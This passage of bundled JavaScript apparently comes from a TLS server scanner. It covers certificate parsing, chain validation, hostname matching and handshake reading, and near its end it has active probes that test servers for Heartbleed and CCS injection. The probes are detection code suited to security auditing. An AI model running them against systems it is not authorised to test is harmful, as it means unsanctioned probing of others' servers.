spki: "302a300506032b656e032100"
},
30: {
type: "x448",
bytes: 56,
spki: "3042300506032b656f033900"
}
};
const COMPUTABLE_GROUPS = [ 29, 23, 24, 25, 30 ];
class KeyRing {
#curves=new Map;
#keys=new Map;
share(group) {
const curve = this.#curve(group);
if (curve !== null) return {
group: group,
publicKey: curve.getPublicKey()
};
const key = this.#key(group);
return key === null ? null : {
group: group,
publicKey: key.share
};
}
agree(group, peer) {
try {
const curve = this.#curve(group);
if (curve !== null) return curve.computeSecret(peer);
const key = this.#key(group);
const parameters = MONTGOMERY[group];
if (key === null || parameters === undefined || peer.length !== parameters.bytes) return null;
const spki = Buffer.concat([ Buffer.from(parameters.spki, "hex"), peer ]);
const publicKey = (0, external_node_crypto_.createPublicKey)({
key: spki,
format: "der",
type: "spki"
});
return (0, external_node_crypto_.diffieHellman)({
privateKey: key.privateKey,
publicKey: publicKey
});
} catch {
return null;
}
}
#curve(group) {
const name = NIST_CURVES[group];
if (name === undefined) return null;
const known = this.#curves.get(group);
if (known !== undefined) return known;
const curve = (0, external_node_crypto_.createECDH)(name);
curve.generateKeys();
this.#curves.set(group, curve);
return curve;
}
#key(group) {
const parameters = MONTGOMERY[group];
if (parameters === undefined) return null;
const known = this.#keys.get(group);
if (known !== undefined) return known;
const pair = parameters.type === "x25519" ? (0, external_node_crypto_.generateKeyPairSync)("x25519") : (0, 
external_node_crypto_.generateKeyPairSync)("x448");
const share = pair.publicKey.export({
type: "spki",
format: "der"
}).subarray(-parameters.bytes);
const key = {
privateKey: pair.privateKey,
share: share
};
this.#keys.set(group, key);
return key;
}
}
async function probeSsl2(session) {
const socket = await session.socket();
if (socket === null) return null;
const data = await exchangeBytes(socket, ssl2ClientHello(), isOver, session.timeoutMs, session.signal);
return parseSsl2ServerHello(data);
}
function isOver(received) {
if ((received[0] ?? 0) < 128) return true;
return received.length >= 2 && received.length >= (received.readUInt16BE(0) & 32767) + 2;
}
async function findVersion(survey, session, options) {
const [usual = [], ...others] = survey.chunks(survey.undecided);
const wasSmall = session.small;
if (survey.version === "TLSv1.3") {
const readable = await survey.offer(usual, "certificates", COMPUTABLE_GROUPS);
if (readable.kind !== "refused") return readable.kind === "silent" ? await retrySmall(survey, session, readable) : readable;
survey.reopen(usual);
return await survey.offer(usual, "hello");
}
const response = await survey.offer(usual, "flight");
if (response.kind === "silent" && !wasSmall) return await retrySmall(survey, session, response);
if (response.kind !== "refused" || options.isQuick) return response;
await Promise.all(others.map(suites => survey.offer(suites, "flight")));
return response;
}
async function retrySmall(survey, session, response) {
const isTls13 = survey.version === "TLSv1.3";
const suites = isTls13 ? [ 4865, 4866, 4867 ] : suite_traits.iO.filter(code => (0, 
suite_traits.vC)(code, survey.version));
const share = isTls13 ? session.keys.share(29) : null;
const second = await session.handshake({
version: survey.version,
suites: suites,
small: true,
until: isTls13 ? "certificates" : "flight",
...share === null ? {} : {
keyShares: [ share ]
}
});
survey.learn(suites, second);
if (second.kind === "accepted" && !session.acceptsLongHellos) session.small = true;
return second.kind === "silent" ? response : second;
}
var external_node_tls_ = __webpack_require__(41692);
class DerError extends Error {
constructor(message) {
super(message);
this.name = "DerError";
}
}
const CHILDREN_MAX = 1e5;
function readDer(data) {
if (data.length < 2) throw new DerError("the element is cut off");
const tag = data.readUInt8(0);
if ((tag & 31) === 31) throw new DerError("a tag of several bytes");
const first = data.readUInt8(1);
let head = 2;
let length = first;
if (first >= 128) {
const bytes = first & 127;
if (bytes === 0 || bytes > 4 || data.length < 2 + bytes) throw new DerError("a length that is not DER");
length = data.readUIntBE(2, bytes);
head += bytes;
}
if (length > data.length - head) throw new DerError("the element is longer than its data");
return {
tag: tag,
contents: data.subarray(head, head + length),
whole: data.subarray(0, head + length)
};
}
function childrenOf(element) {
const children = [];
for (let rest = element.contents; rest.length > 0; ) {
const child = readDer(rest);
children.push(child);
if (children.length > CHILDREN_MAX) throw new DerError("too many elements");
rest = rest.subarray(child.whole.length);
}
return children;
}
function objectIdOf(contents) {
const arcs = [];
let value = 0;
for (const byte of contents.subarray(0, 64)) {
value = value * 128 + (byte & 127);
if (byte < 128) {
arcs.push(value);
value = 0;
}
}
const first = arcs.shift() ?? 0;
const root = Math.min(2, Math.floor(first / 40));
return [ root, first - root * 40, ...arcs ].join(".");
}
function timeOf(element) {
const text = element.contents.toString("latin1");
const isShort = element.tag === 23;
const pattern = isShort ? /^(\d{2})(\d{2})(\d{2})(\d{2})(\d{2})(\d{2})?Z$/ : /^(\d{4})(\d{2})(\d{2})(\d{2})(\d{2})(\d{2})?Z$/;
const match = pattern.exec(text);
if (match === null) throw new DerError("a time that is not DER");
const [, digits = "", month = "", day = "", hour = "", minute = "", second = "00"] = match;
const year = isShort ? Number(digits) + (Number(digits) >= 50 ? 1900 : 2e3) : Number(digits);
const time = new Date(`${String(year).padStart(4, "0")}-${month}-${day}T${hour}:${minute}:${second}Z`);
if (Number.isNaN(time.getTime())) throw new DerError("a time that does not exist");
return time;
}
const ATTRIBUTES = {
"2.5.4.3": "CN",
"2.5.4.6": "C",
"2.5.4.7": "L",
"2.5.4.8": "ST",
"2.5.4.10": "O",
"2.5.4.11": "OU",
"2.5.4.5": "serialNumber",
"0.9.2342.19200300.100.1.25": "DC",
"1.2.840.113549.1.9.1": "emailAddress"
};
const distinguished_name_VALUE_LENGTH_MAX = 120;
const ATTRIBUTES_MAX = 20;
function distinguishedName(name) {
const parts = attributesOf(name).map(([oid, value]) => `${ATTRIBUTES[oid] ?? oid}=${value}`);
return parts.reverse().slice(0, ATTRIBUTES_MAX).join(", ");
}
function attributesOf(name) {
return childrenOf(name).flatMap(set => childrenOf(set).flatMap(pair => {
const [type, value] = childrenOf(pair);
return type === undefined || value === undefined ? [] : [ [ objectIdOf(type.contents), distinguished_name_textOf(value) ] ];
}));
}
function distinguished_name_textOf(value) {
const isBmp = value.tag === 30 && value.contents.length % 2 === 0;
const text = isBmp ? Buffer.from(value.contents).swap16().toString("utf16le") : value.contents.toString("utf8");
return text.replace(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu, "�").slice(0, distinguished_name_VALUE_LENGTH_MAX);
}
const OIDS = {
subjectAltName: "2.5.29.17",
basicConstraints: "2.5.29.19",
keyUsage: "2.5.29.15",
extendedKeyUsage: "2.5.29.37",
nameConstraints: "2.5.29.30",
authorityKeyIdentifier: "2.5.29.35",
authorityInformationAccess: "1.3.6.1.5.5.7.1.1",
signedCertificateTimestamps: "1.3.6.1.4.1.11129.2.4.2"
};
const CA_ISSUERS = "1.3.6.1.5.5.7.48.2";
const SERVER_AUTH = "1.3.6.1.5.5.7.3.1";
const ANY_PURPOSE = "2.5.29.37.0";
function extensions_parseExtensions(elements) {
const values = new Map;
for (const element of elements) {
const parts = childrenOf(element);
const oid = parts[0];
const value = parts.at(-1);
if (oid !== undefined && value?.tag === 4) values.set(objectIdOf(oid.contents), value.contents);
}
const read = oid => {
const value = values.get(oid);
return value === undefined ? null : childrenOf(readDer(value));
};
const names = read(OIDS.subjectAltName);
const constraints = read(OIDS.basicConstraints);
const length = constraints?.find(({tag: tag}) => tag === 2)?.contents;
const usage = values.get(OIDS.keyUsage);
return {
dnsNames: (names ?? []).filter(({tag: tag}) => tag === 130).map(({contents: contents}) => dnsText(contents)),
ipAddresses: (names ?? []).filter(({tag: tag}) => tag === 135).map(({contents: contents}) => addressText(contents)),
hasSubjectAltName: names !== null,
isCa: constraints === null ? null : constraints.some(({tag: tag, contents: contents}) => tag === 1 && contents[0] !== 0),
pathLength: length === undefined || length.length !== 1 ? null : length.readUInt8(0),
signsCertificates: usage === undefined ? null : ((readDer(usage).contents[1] ?? 0) & 4) !== 0,
purposes: read(OIDS.extendedKeyUsage)?.map(({contents: contents}) => objectIdOf(contents)) ?? null,
nameConstraints: parseNameConstraints(read(OIDS.nameConstraints)),
issuerOfIssuer: issuerOfIssuer(read(OIDS.authorityKeyIdentifier)),
namesIssuerUrl: (read(OIDS.authorityInformationAccess) ?? []).some(access => {
const method = childrenOf(access)[0];
return method !== undefined && objectIdOf(method.contents) === CA_ISSUERS;
}),
isLogged: values.has(OIDS.signedCertificateTimestamps)
};
}
function issuerOfIssuer(parts) {
const names = parts?.find(({tag: tag}) => tag === 161);
const directory = names === undefined ? undefined : childrenOf(names).find(({tag: tag}) => tag === 164);
return directory === undefined ? null : directory.contents;
}
function parseNameConstraints(trees) {
if (trees === null) return null;
const basesOf = tag => trees.filter(tree => tree.tag === tag).flatMap(tree => childrenOf(tree).flatMap(subtree => childrenOf(subtree).slice(0, 1)));
const permitted = basesOf(160);
const excluded = basesOf(161);
const dns = bases => bases.filter(({tag: tag}) => tag === 130).map(({contents: contents}) => dnsText(contents));
const ip = bases => bases.filter(({tag: tag}) => tag === 135).map(({contents: contents}) => contents);
const permittedDns = dns(permitted);
const permittedIp = ip(permitted);
return {
permittedDns: permittedDns.length === 0 ? null : permittedDns,
excludedDns: dns(excluded),
permittedIp: permittedIp.length === 0 ? null : permittedIp,
excludedIp: ip(excluded)
};
}
function dnsText(contents) {
return contents.toString("latin1").toLowerCase().replace(/[^\x21-\x7e]/g, "?").slice(0, 300);
}
function addressText(bytes) {
if (bytes.length === 4) return bytes.join(".");
return bytes.length === 16 ? (bytes.toString("hex").match(/.{4}/g) ?? []).join(":") : `invalid (${bytes.length} bytes)`;
}
const SIGNATURES = {
"1.2.840.113549.1.1.2": "md2WithRSAEncryption",
"1.2.840.113549.1.1.4": "md5WithRSAEncryption",
"1.2.840.113549.1.1.5": "sha1WithRSAEncryption",
"1.3.14.3.2.29": "sha1WithRSAEncryption",
"1.2.840.113549.1.1.11": "sha256WithRSAEncryption",
"1.2.840.113549.1.1.12": "sha384WithRSAEncryption",
"1.2.840.113549.1.1.13": "sha512WithRSAEncryption",
"1.2.840.113549.1.1.14": "sha224WithRSAEncryption",
"1.2.840.10040.4.3": "dsa-with-sha1",
"2.16.840.1.101.3.4.3.2": "dsa-with-sha256",
"1.2.840.10045.4.1": "ecdsa-with-SHA1",
"1.2.840.10045.4.3.1": "ecdsa-with-SHA224",
"1.2.840.10045.4.3.2": "ecdsa-with-SHA256",
"1.2.840.10045.4.3.3": "ecdsa-with-SHA384",
"1.2.840.10045.4.3.4": "ecdsa-with-SHA512",
"1.3.101.112": "Ed25519",
"1.3.101.113": "Ed448"
};
const parse_certificate_HASHES = {
"1.3.14.3.2.26": "sha1",
"2.16.840.1.101.3.4.2.1": "sha256",
"2.16.840.1.101.3.4.2.2": "sha384",
"2.16.840.1.101.3.4.2.3": "sha512"
};
function parseCertificate(der) {
const x509 = new external_node_crypto_.X509Certificate(der);
const [tbs, algorithm] = childrenOf(readDer(der));
if (tbs === undefined || algorithm === undefined) throw new DerError("not a certificate");
const fields = childrenOf(tbs);
const hasVersion = fields[0]?.tag === 160;
const [, , issuer, validity, subject, , ...tail] = hasVersion ? fields.slice(1) : fields;
if (issuer === undefined || validity === undefined || subject === undefined) throw new DerError("not a certificate");
const [notBefore, notAfter] = childrenOf(validity);
if (notBefore === undefined || notAfter === undefined) throw new DerError("a certificate without validity");
const block = tail.find(element => element.tag === 163);
const extensions = extensions_parseExtensions(block === undefined ? [] : childrenOf(readDer(block.contents)));
const key = x509.publicKey;
return {
info: {
subject: distinguishedName(subject),
issuer: distinguishedName(issuer),
notBefore: timeOf(notBefore),
notAfter: timeOf(notAfter),
dnsNames: extensions.dnsNames,
ipAddresses: extensions.ipAddresses,
keyType: keyTypeOf(key.asymmetricKeyType),
keyBits: keyBitsOf(key.asymmetricKeyType, key.asymmetricKeyDetails),
signatureAlgorithm: signatureName(algorithm),
fingerprint256: x509.fingerprint256.replaceAll(":", "").toLowerCase(),
isSelfSigned: issuer.whole.equals(subject.whole) && x509.verify(key),
isLogged: extensions.isLogged
},
der: der,
x509: x509,
subjectDer: subject.whole,
issuerDer: issuer.whole,
version: hasVersion ? (fields[0]?.contents.at(-1) ?? 0) + 1 : 1,
extensions: extensions
};
}
const CERTIFICATES_MAX = 32;
function parseChain(ders) {
const chain = [];
const faults = [];
for (const [index, der] of ders.slice(0, CERTIFICATES_MAX).entries()) {
try {
chain.push(parseCertificate(der));
} catch (error) {
faults.push(`certificate ${index + 1} cannot be read (${error instanceof Error ? error.message.slice(0, 100) : "unknown"})`);
if (index === 0) break;
}
}
return {
chain: chain,
faults: faults
};
}
function signatureName(algorithm) {
const [oid, parameters] = childrenOf(algorithm);
const dotted = oid === undefined ? "" : objectIdOf(oid.contents);
if (dotted !== "1.2.840.113549.1.1.10") return SIGNATURES[dotted] ?? dotted;
const hash = parameters === undefined ? undefined : childrenOf(parameters).find(({tag: tag}) => tag === 160);
const hashOid = hash === undefined ? undefined : childrenOf(readDer(hash.contents))[0];
return `rsassaPss-${hashOid === undefined ? "sha1" : parse_certificate_HASHES[objectIdOf(hashOid.contents)] ?? "unknown"}`;
}
function keyTypeOf(type) {
const names = {
rsa: "RSA",
"rsa-pss": "RSA",
ec: "EC",
dsa: "DSA",
ed25519: "Ed25519",
ed448: "Ed448"
};
return names[type ?? ""] ?? type ?? "unknown";
}
const EDWARDS_BITS = {
ed25519: 256,
ed448: 456
};
function keyBitsOf(type, details) {
if (details?.modulusLength !== undefined) return details.modulusLength;
if (details?.namedCurve === "prime256v1") return 256;
const digits = /\d{3}/.exec(details?.namedCurve ?? "");
return digits === null ? EDWARDS_BITS[type ?? ""] ?? 0 : Number(digits[0]);
}
const trust_store_PEM = /-----BEGIN (?:TRUSTED )?CERTIFICATE-----([A-Za-z0-9+/=\s]+)-----END (?:TRUSTED )?CERTIFICATE-----/g;
class TrustStore {
#bySubject=new Map;
#fingerprints=new Set;
#organizations=new Set;
constructor(pems) {
for (const der of pems.flatMap(derOfPem)) this.#add(der);
}
get size() {
return this.#fingerprints.size;
}
has(certificate) {
return this.#fingerprints.has(certificate.info.fingerprint256);
}
issuersOf(certificate) {
const ders = this.#bySubject.get(certificate.issuerDer.toString("base64")) ?? [];
return parseReadable(ders);
}
knowsOrganization(name) {
const organization = organizationOf(name);
return organization !== null && this.#organizations.has(organization);
}
hasSubject(subjectDer) {
return this.#bySubject.has(subjectDer.toString("base64"));
}
#add(der) {
const fingerprint = (0, external_node_crypto_.createHash)("sha256").update(der).digest("hex");
const subject = this.#fingerprints.has(fingerprint) ? null : subjectOf(der);
if (subject === null) return;
this.#fingerprints.add(fingerprint);
const key = subject.whole.toString("base64");
this.#bySubject.set(key, [ ...this.#bySubject.get(key) ?? [], der ]);
const organization = organizationOf(distinguishedName(subject));
if (organization !== null) this.#organizations.add(organization);
}
}
function subjectOf(der) {
try {
const tbs = childrenOf(readDer(der))[0];
const fields = tbs === undefined ? [] : childrenOf(tbs);
return fields[fields[0]?.tag === 160 ? 5 : 4] ?? null;
} catch {
return null;
}
}
function parseReadable(ders) {
return ders.flatMap(der => {
try {
return [ parseCertificate(der) ];
} catch {
return [];
}
});
}
function derOfPem(pem) {
return [ ...pem.matchAll(trust_store_PEM) ].map(([, base64 = ""]) => Buffer.from(base64, "base64"));
}
function organizationOf(name) {
return /(?:^|, )O=([^,]+)/.exec(name)?.[1]?.toLowerCase() ?? null;
}
const NAME_MAX = 255;
const validate_path_COMPARISONS_MAX = 1e6;
function forbiddenName(constraints, names) {
return forbiddenDnsName(constraints, names.dnsNames) ?? forbiddenAddress(constraints, names.ipAddresses);
}
function forbiddenDnsName(constraints, names) {
const permitted = constraints.permittedDns === null ? null : new Set(constraints.permittedDns);
const excluded = new Set(constraints.excludedDns);
const isForbidden = name => name.length > NAME_MAX || validate_path_isWithin(name, excluded) || permitted !== null && !validate_path_isWithin(name, permitted);
return names.find(isForbidden) ?? null;
}
function forbiddenAddress({permittedIp: permittedIp, excludedIp: excludedIp}, addresses) {
const ranges = (permittedIp?.length ?? 0) + excludedIp.length;
if (ranges * addresses.length > validate_path_COMPARISONS_MAX) return addresses[0] ?? null;
const isPermitted = address => permittedIp?.some(range => isInRange(address, range)) ?? true;
const isExcluded = address => excludedIp.some(range => isInRange(address, range));
return addresses.find(address => !isPermitted(address) || isExcluded(address)) ?? null;
}
function validate_path_isWithin(name, domains) {
if (domains.has("") || domains.has(name)) return true;
for (let dot = name.indexOf("."); dot !== -1; dot = name.indexOf(".", dot + 1)) if (domains.has(name.slice(dot)) || domains.has(name.slice(dot + 1))) return true;
return false;
}
function isInRange(address, range) {
const bytes = address.includes(".") ? Buffer.from(address.split(".").map(Number)) : Buffer.from(address.replaceAll(":", ""), "hex");
if (range.length !== bytes.length * 2) return false;
return bytes.every((byte, index) => {
const mask = range[bytes.length + index] ?? 0;
return (byte & mask) === ((range[index] ?? 0) & mask);
});
}
const VERIFICATIONS_MAX = 64;
const validate_path_DEPTH_MAX = 10;
function validatePath(sent, store, now) {
const leaf = endEntity(sent);
if (leaf === undefined) return {
trusted: false,
fault: null,
detail: "no certificate was sent",
path: []
};
const search = new PathSearch(sent, store);
search.extend([ leaf ]);
const judged = search.complete.map(path => ({
path: path,
faults: faultsOf(path),
expired: path.filter(member => !isValidAt(member, now)).length
})).sort((a, b) => a.faults.length - b.faults.length || a.expired - b.expired);
const best = judged[0];
if (best === undefined) return explain(search, store);
const [first] = best.faults;
if (first !== undefined) return {
trusted: false,
...first,
path: best.path
};
const positions = best.path.map(member => sent.indexOf(member)).filter(position => position >= 0);
return isInOrder(sent, positions) ? {
trusted: true,
fault: null,
detail: `ends in the trusted root ${best.path.at(-1)?.info.subject ?? ""}`,
path: best.path
} : {
trusted: true,
fault: "wrong-order",
detail: orderDetail(positions),
path: best.path
};
}
function isInOrder(sent, positions) {
if (positions.some((position, index) => index > 0 && position < (positions[index - 1] ?? 0))) return false;
const needed = sent.slice(0, (positions.at(-1) ?? 0) + 1);
return needed.every((member, index) => {
if (index === 0) return true;
const before = needed.slice(0, index);
const isIssuer = before.at(-1)?.issuerDer.equals(member.subjectDer) === true;
return isIssuer || before.some(({subjectDer: subjectDer}) => subjectDer.equals(member.subjectDer));
});
}
function endEntity(sent) {
const [first] = sent;
if (first?.extensions.isCa !== true) return first;
const others = sent.filter(({extensions: extensions}) => extensions.isCa !== true);
const [other] = others;
if (other === undefined || others.length > 1) return first;
const climbed = new Set([ other ]);
for (const member of climbed) for (const issuer of sent) if (issuer.subjectDer.equals(member.issuerDer)) climbed.add(issuer);
return climbed.has(first) ? other : first;
}
function isValidAt(certificate, now) {
return certificate.info.notBefore <= now && now <= certificate.info.notAfter;
}
class PathSearch {
complete=[];
longest=[];
sent;
#store;
#verifications=0;
constructor(sent, store) {
this.sent = sent;
this.#store = store;
}
extend(path) {
const current = path.at(-1);
if (current === undefined || path.length > validate_path_DEPTH_MAX) return;
if (path.length > this.longest.length) this.longest = path;
if (this.#store.has(current)) {
this.complete.push([ ...path ]);
return;
}
for (const root of this.#store.issuersOf(current)) if (this.#signed(root, current)) this.complete.push([ ...path, root ]);
if (current.info.isSelfSigned) return;
for (const candidate of this.sent) {
if (path.includes(candidate) || !candidate.subjectDer.equals(current.issuerDer)) continue;
if (this.#signed(candidate, current)) this.extend([ ...path, candidate ]);
}
}
#signed(issuer, subject) {
this.#verifications += 1;
if (this.#verifications > VERIFICATIONS_MAX) return false;
try {
return subject.x509.verify(issuer.x509.publicKey);
} catch {
return false;
}
}
}
function faultsOf(path) {
const [leaf, ...issuers] = path;
if (leaf === undefined) return [];
const faults = issuers.flatMap((_, index) => issuerFaults(leaf, issuers, index));
if (!servesTls(leaf)) faults.push({
fault: "bad-purpose",
detail: "the certificate is not valid for TLS servers"
});
return faults;
}
function issuerFaults(leaf, issuers, index) {
const issuer = issuers[index];
if (issuer === undefined) return [];
const {info: info, extensions: extensions, version: version} = issuer;
const faults = [];
const isOldAnchor = index === issuers.length - 1 && version < 3;
if (extensions.isCa !== true && !isOldAnchor || extensions.signsCertificates === false) faults.push({
fault: "not-a-ca",
detail: `${info.subject} signed a certificate but is not a CA`
});
const below = issuers.slice(0, index).filter(member => !member.subjectDer.equals(member.issuerDer)).length;
if (extensions.pathLength !== null && below > extensions.pathLength) faults.push({
fault: "not-a-ca",
detail: `${info.subject} may not have another CA below it (path length)`
});
if (!servesTls(issuer)) faults.push({
fault: "bad-purpose",
detail: `${info.subject} may not issue for TLS servers`
});
const {nameConstraints: nameConstraints} = extensions;
const forbidden = nameConstraints === null ? null : forbiddenName(nameConstraints, leaf.extensions);
if (forbidden !== null) faults.push({
fault: "name-constraint",
detail: `${info.subject} may not issue for ${forbidden}`
});
return faults;
}
function servesTls({extensions: extensions}) {
const {purposes: purposes} = extensions;
return purposes === null || purposes.includes(SERVER_AUTH) || purposes.includes(ANY_PURPOSE);
}
function explain(search, store) {
const path = search.longest;
const [leaf] = path;
const top = path.at(-1);
if (leaf === undefined || top === undefined) return {
trusted: false,
fault: null,
detail: "no certificate was sent",
path: path
};
const fault = (name, detail) => ({
trusted: false,
fault: name,
detail: detail,
path: path
});
if (leaf.info.isSelfSigned) return fault("self-signed", "the certificate is self-signed and not in the root store");
if (top.info.isSelfSigned) return fault("untrusted-root", `the root ${top.info.subject} is not in the root store`);
const namesakes = [ ...search.sent, ...store.issuersOf(top) ].filter(other => other.subjectDer.equals(top.issuerDer));
if (namesakes.length > 0) return fault("invalid-signature", `the signature of ${top.info.subject} was not made by ${top.info.issuer}`);
return isIntermediateMissing(top, path.length, store) ? fault("incomplete-chain", `the certificate of the issuer ${top.info.issuer} was not sent`) : fault("unknown-issuer", `the issuer ${top.info.issuer} was not sent and is not in the root store`);
}
function isIntermediateMissing(top, length, store) {
const {issuerOfIssuer: issuerOfIssuer, namesIssuerUrl: namesIssuerUrl} = top.extensions;
if (issuerOfIssuer !== null && !issuerOfIssuer.equals(top.issuerDer)) return store.hasSubject(issuerOfIssuer);
return store.knowsOrganization(top.info.issuer) || length === 1 && namesIssuerUrl;
}
function orderDetail(positions) {
return `the path needs the certificates at positions ${positions.map(position => position + 1).join(", ")} of the sent chain, in this order`;
}
const IPV4 = /^\d{1,3}(\.\d{1,3}){3}$/;
function matchesHost(host, names) {
if (IPV4.test(host) || host.includes(":")) return names.ipAddresses.includes(canonicalAddress(host));
const wanted = withoutDot(host.toLowerCase());
return names.dnsNames.some(pattern => matchesName(wanted, withoutDot(pattern.toLowerCase())));
}
function matchesName(host, pattern) {
if (!pattern.includes("*")) return host === pattern && host !== "";
const [first = "", ...rest] = pattern.split(".");
const [label = "", ...parent] = host.split(".");
return first === "*" && rest.length > 0 && label !== "" && !rest.includes("*") && rest.join(".") === parent.join(".");
}
function canonicalAddress(address) {
if (!address.includes(":") || !URL.canParse(`http://[${address}]/`)) return address;
const url = new URL(`http://[${address}]/`);
const [head = "", tail] = url.hostname.slice(1, -1).split("::");
const left = head === "" ? [] : head.split(":");
const right = tail === undefined || tail === "" ? [] : tail.split(":");
const middle = Array(8 - left.length - right.length).fill("0");
return [ ...left, ...tail === undefined ? [] : middle, ...right ].map(group => group.padStart(4, "0")).join(":");
}
function withoutDot(name) {
return name.endsWith(".") ? name.slice(0, -1) : name;
}
function judgeChain(ders, host, store, now) {
const {chain: chain, faults: faults} = parseChain(ders);
const [leaf] = chain;
if (leaf === undefined) {
const detail = faults[0] ?? "the server sent no certificate";
return {
chain: [],
path: [],
trust: {
trusted: false,
fault: null,
detail: detail
},
nameMatches: false
};
}
const {path: path, ...trust} = validatePath(chain, store, now);
const own = path[0] ?? leaf;
return {
chain: chain.map(({info: info}) => info),
path: path.map(({info: info}) => info),
trust: {
...trust,
detail: [ trust.detail, ...faults ].join("; ")
},
nameMatches: matchesHost(host, own.info)
};
}
let ownStore = null;
function rootStore(trustedRoots) {
if (trustedRoots !== undefined && trustedRoots.length > 0) return new TrustStore([ ...(0, 
external_node_tls_.getCACertificates)("default"), ...trustedRoots ]);
ownStore ??= new TrustStore((0, external_node_tls_.getCACertificates)("default"));
return ownStore;
}
const FLIGHT_BYTES_MAX = 1572864;
const RECORD_BYTES_MAX = 16384 + 2048;
const server_flight_RECORDS_MAX = 2e4;
class FlightReader {
#pending=[];
#pendingBytes=0;
#total=0;
#records=0;
#handshake=[];
#handshakeBytes=0;
#opener=null;
#flight={
hello: null,
helloMessage: null,
certificates: null,
keyExchange: null,
isComplete: false,
alert: null,
fault: null
};
#onServerHello;
constructor(onServerHello) {
this.#onServerHello = onServerHello;
}
get flight() {
return this.#flight;
}
get isOver() {
const {isComplete: isComplete, alert: alert, fault: fault} = this.#flight;
return isComplete || alert !== null || fault !== null;
}
push(chunk) {
this.#total += chunk.length;
this.#pending.push(chunk);
this.#pendingBytes += chunk.length;
while (!this.isOver) {
const record = this.#takeRecord();
if (record === null) break;
this.#record(record.header, record.payload);
}
if (this.#total > FLIGHT_BYTES_MAX && !this.isOver) this.#flight.fault = "first flight is too long";
}
#takeRecord() {
if (this.#pendingBytes < 5) return null;
let data = this.#pending[0] ?? Buffer.alloc(0);
if (data.length < 5) {
data = Buffer.concat(this.#pending);
this.#pending = [ data ];
}
const header = data.subarray(0, 5);
const length = header.readUInt16BE(3);
if (header.readUInt8(0) < 20 || header.readUInt8(0) > 24 || header.readUInt8(1) !== 3 || length > RECORD_BYTES_MAX) {
this.#flight.fault = "not a TLS record";
return null;
}
this.#records += 1;
if (this.#records > server_flight_RECORDS_MAX) {
this.#flight.fault = "too many records";
return null;
}
if (this.#pendingBytes < 5 + length) {
this.#records -= 1;
return null;
}
if (data.length < 5 + length) data = Buffer.concat(this.#pending);
this.#pending = [ data.subarray(5 + length) ];
this.#pendingBytes = data.length - 5 - length;
return {
header: header,
payload: data.subarray(5, 5 + length)
};
}
#record(header, payload) {
let type = header.readUInt8(0);
let content = payload;
if (type === 23 && this.#opener !== null) {
const opened = this.#opener(header, payload);
if (opened === null) {
this.#flight.fault = "an encrypted record could not be opened";
return;
}
type = opened.type;
content = opened.content;
}
if (type === 21) this.#alert(content);
if (type !== 22) return;
this.#handshake.push(content);
this.#handshakeBytes += content.length;
this.#messages();
}
#alert(content) {
if (content.length < 2) this.#flight.fault = "a malformed alert"; else if (content.readUInt8(0) === 2 || content.readUInt8(1) === 0) this.#flight.alert = content.readUInt8(1);
}
#messages() {
while (!this.isOver && this.#handshakeBytes >= 4) {
let data = this.#handshake[0] ?? Buffer.alloc(0);
if (data.length < 4) {
data = Buffer.concat(this.#handshake);
this.#handshake = [ data ];
}
const length = data.readUIntBE(1, 3);
if (length > FLIGHT_BYTES_MAX) {
this.#flight.fault = "a handshake message is too long";
return;
}
if (this.#handshakeBytes < 4 + length) return;
if (data.length < 4 + length) data = Buffer.concat(this.#handshake);
this.#handshake = [ data.subarray(4 + length) ];
this.#handshakeBytes = data.length - 4 - length;
this.#message(data.readUInt8(0), data.subarray(4, 4 + length), data.subarray(0, 4 + length));
}
}
#message(type, body, whole) {
const flight = this.#flight;
if (type === 2) this.#serverHello(body, whole); else if (flight.hello === null) flight.fault = "the flight does not begin with a ServerHello"; else if (type === 11 && flight.certificates === null) this.#certificate(body); else if (type === 12) flight.keyExchange = body; else if (type === 14) flight.isComplete = true;
}
#serverHello(body, whole) {
const flight = this.#flight;
flight.hello = parseServerHello(body);
flight.helloMessage = whole;
if (flight.hello === null) flight.fault = "a malformed ServerHello"; else if (flight.hello.isRetry) flight.isComplete = true; else this.#opener = this.#onServerHello?.(flight.hello, whole) ?? null;
}
#certificate(body) {
const flight = this.#flight;
flight.certificates = parseCertificates(body, this.#opener !== null);
if (flight.certificates === null) flight.fault = "a malformed Certificate message"; else if (this.#opener !== null) flight.isComplete = true;
}
}
function parseCertificates(body, isTls13) {
let at = 0;
if (isTls13) {
if (body.length < 1) return null;
at = 1 + body.readUInt8(0);
}
if (body.length < at + 3 || body.readUIntBE(at, 3) !== body.length - at - 3) return null;
at += 3;
const certificates = [];
while (at < body.length) {
if (at + 3 > body.length) return null;
const end = at + 3 + body.readUIntBE(at, 3);
if (end > body.length) return null;
certificates.push(body.subarray(at + 3, end));
at = end;
if (isTls13) {
if (at + 2 > body.length) return null;
at += 2 + body.readUInt16BE(at);
}
}
return certificates;
}
const HEARTBEAT_EXTENSION = 15;
const HEARTBEAT_RECORD = 24;
const ALERT_RECORD = 21;
const BAD_RECORD_MAC = 20;
const DECRYPTION_FAILED = 21;
async function probeKnownBugs(survey, session) {
const [heartbleed, ccsInjection] = await Promise.all([ probeHeartbleed(survey, session), probeCcs(survey, session) ]);
return {
heartbleed: heartbleed,
ccsInjection: ccsInjection
};
}
async function probeHeartbleed(survey, session) {
const connection = await openHandshake(survey, session, true);
if (connection === null) return "not_tested";
if (!connection.reader.flight.hello?.extensions.has(HEARTBEAT_EXTENSION)) {
connection.socket.destroy();
return "not_vulnerable";
}
const response = await connection.send(record(HEARTBEAT_RECORD, survey, Buffer.from([ 1, 0, 0 ])));
connection.socket.destroy();
return response[0] === HEARTBEAT_RECORD && response.length >= 8 && response[5] === 2 ? "vulnerable" : "not_vulnerable";
}
async function probeCcs(survey, session) {
const connection = await openHandshake(survey, session, false);
if (connection === null) return "not_tested";
const changeCipherSpec = record(20, survey, Buffer.from([ 1 ]));
const first = await connection.send(changeCipherSpec, 500);
if (first.length > 0 || connection.isClosed()) {
connection.socket.destroy();
return "not_vulnerable";
}
const second = await connection.send(changeCipherSpec);
connection.socket.destroy();
const isDecryptionFault = second[0] === ALERT_RECORD && [ BAD_RECORD_MAC, DECRYPTION_FAILED ].includes(second[6] ?? 0);
return isDecryptionFault ? "vulnerable" : "not_vulnerable";
}
async function openHandshake(survey, session, heartbeat) {
const socket = await session.socket();
if (socket === null) return null;
let isClosed = false;
let listener = null;
socket.on("error", () => undefined);
socket.once("close", () => {
isClosed = true;
listener?.(Buffer.alloc(0));
});
socket.on("data", chunk => listener?.(chunk));
const next = timeoutMs => new Promise(resolve => {
const finish = chunk => {
clearTimeout(timer);
